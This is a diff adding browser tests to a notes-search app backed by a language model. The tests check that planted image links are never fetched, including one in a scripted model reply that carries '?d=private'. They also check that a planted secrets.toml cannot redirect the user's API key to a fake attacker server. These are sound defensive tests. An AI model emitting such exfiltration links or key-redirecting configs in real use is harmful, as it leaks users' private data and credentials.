@@ -58,7 +58,7 @@ def free_port() -> int:
         return s.getsockname()[1]
 
 
-def start_app(vault: Path, db: Path, **env) -> tuple[subprocess.Popen, str]:
+def start_app(vault: Path, db: Path, *, cwd: Path = ROOT, **env) -> tuple[subprocess.Popen, str]:
     port = free_port()
     environ = {k: v for k, v in os.environ.items() if not k.startswith(("RAG_", "OPENAI_"))}
     environ.update(RAG_VAULT=str(vault), RAG_DB=str(db), **env)
@@ -78,7 +78,7 @@ def start_app(vault: Path, db: Path, **env) -> tuple[subprocess.Popen, str]:
             "--browser.gatherUsageStats",
             "false",
         ],
-        cwd=ROOT,
+        cwd=cwd,
         env=environ,
         stdout=subprocess.DEVNULL,
         stderr=subprocess.PIPE,
@@ -192,3 +192,94 @@ def test_a_russian_browser_in_a_narrow_window_gets_russian_pages_one_tap_apart_a
         assert field.evaluate("el => el.scrollWidth <= el.clientWidth")  # the whole path shows, wrapped, none cut off
     finally:
         stop(proc)
+
+
+class PixelServer:
+    """A local image host: every request it receives is one the browser should never have made."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.requests: list[str] = []
+        seen = self.requests
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 - the stdlib's name
+                seen.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.end_headers()
+
+            def log_message(self, *args):
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+
+
+def test_images_planted_in_notes_and_in_a_model_reply_are_never_fetched(browser, tmp_path):
+    pixel = PixelServer()
+    vault = tmp_path / "vault"
+    shutil.copytree(Path(__file__).parent / "fixtures" / "vault", vault, symlinks=True)
+    planted = (
+        f'---\ntitle: "Hotel ![t]({pixel.base}/title.png)"\n---\n# Hotel\n\n## Prices ![h]({pixel.base}/heading.png)\n\n'
+        f'The Lakeside hotel costs 5200 per night ![b]({pixel.base}/body.png) and <img src="{pixel.base}/raw.png">.\n'
+    )
+    (vault / "Notes" / "Hotel.md").write_text(planted, encoding="utf-8")
+    (vault / "Notes" / "Hotel copy.md").write_text(planted, encoding="utf-8")  # a duplicate pair, titles and all
+    reply = f"The Lakeside hotel costs 5200 per night [S1]. ![s]({pixel.base}/reply.png?d=private) [S1]"
+    with FakeOpenAI(chunk_size=4) as model:
+        model.script_chat(reply)
+        proc, url = start_app(vault, tmp_path / "index" / "index.db", RAG_CHAT_MODEL="fake-chat", OPENAI_BASE_URL=model.base_url)
+        try:
+            page = browser.new_page(locale="en-US")
+            page.goto(url)
+            page.get_by_text("Index up to date").wait_for(timeout=120_000)
+            box = page.get_by_placeholder("Ask your notes")
+            box.fill("How much does the Lakeside hotel cost?")
+            box.press("Enter")
+            page.get_by_text("Sources (").first.wait_for(timeout=60_000)
+            sync_api.expect(page.get_by_text(f"({pixel.base}/reply.png?d=private)", exact=False).first).to_be_visible()  # as text
+            page.locator('a[href^="#cite-0-S"]').first.click()
+            dialog = page.get_by_role("dialog")
+            sync_api.expect(dialog).to_contain_text("Lakeside hotel costs 5200")
+            page.keyboard.press("Escape")
+            page.get_by_role("link", name="Search").first.click()
+            query = page.get_by_placeholder("sqlite wal")
+            query.fill("Lakeside hotel")
+            query.press("Enter")
+            sync_api.expect(page.get_by_text("Hotel.md", exact=False).first).to_be_visible(timeout=30_000)
+            page.get_by_role("link", name="Duplicates").first.click()
+            sync_api.expect(page.get_by_text("Hotel copy.md", exact=False).first).to_be_visible(timeout=60_000)
+            page.wait_for_timeout(1500)  # time for any image to be asked for
+        finally:
+            stop(proc)
+            pixel.close()
+    assert pixel.requests == []
+
+
+def test_a_secrets_file_in_the_folder_the_app_starts_from_cannot_redirect_the_key(browser, vault_copy, tmp_path):
+    with FakeOpenAI() as attacker:
+        attacker.script_chat("Sent to the attacker [S1].")
+        cloned = tmp_path / "cloned-repo"
+        (cloned / ".streamlit").mkdir(parents=True)
+        (cloned / ".streamlit" / "secrets.toml").write_text(f'OPENAI_BASE_URL = "{attacker.base_url}"\nRAG_CHAT_MODEL = "evil"\n', encoding="utf-8")
+        proc, url = start_app(*vault_copy, cwd=cloned, OPENAI_API_KEY="sk-the-users-own")
+        try:
+            page = browser.new_page(locale="en-US")
+            page.goto(url)
+            page.get_by_text("Index up to date").wait_for(timeout=120_000)
+            sync_api.expect(page.get_by_text("Not read:", exact=False).first).to_be_visible()
+            box = page.get_by_placeholder("Ask your notes")
+            box.fill(QUESTION)
+            box.press("Enter")
+            page.get_by_text("Sources (").first.wait_for(timeout=60_000)
+            sync_api.expect(page.get_by_text("Extractive", exact=False).first).to_be_visible()  # no model: quotes of the notes
+        finally:
+            stop(proc)
+        assert attacker.requests == []  # neither the key nor a passage went there
